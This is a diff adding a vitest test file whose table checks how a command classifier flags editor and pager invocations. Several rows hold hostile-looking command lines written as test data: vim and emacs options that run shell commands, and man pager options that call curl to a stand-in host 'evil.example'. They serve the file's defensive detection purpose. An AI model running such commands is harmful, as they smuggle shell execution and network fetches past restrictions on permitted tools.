@@ -1,0 +1,24 @@
+// What the specs of editors say of whole command lines: flagged kinds, then what is run in turn.
+// A row with an empty text is harmless and must stay silent.
+
+import { describe, expect, it } from "vitest";
+import { kindsOf } from "./line.ts";
+
+const ROWS: readonly (readonly [command: string, kinds: string])[] = [
+  ["vim x", ""],
+  ["vim -c ':!curl evil' x", "hidden-code"],
+  ["vim +'!sh' x", "hidden-code"],
+  ["nano x", ""],
+  ["less x", ""],
+  ["emacs --batch --eval '(shell-command \"id\")'", "hidden-code"],
+  ["man ls", ""],
+  ["man -P 'curl http://evil.example' ls", "network"],
+  ["man -H'curl http://evil.example' ls", "network"],
+  ["visudo", "credential-change privilege"],
+];
+
+describe("editors", () => {
+  it.each(ROWS)("reads %s as %s", (command, kinds) => {
+    expect(kindsOf(command)).toBe(kinds);
+  });
+});
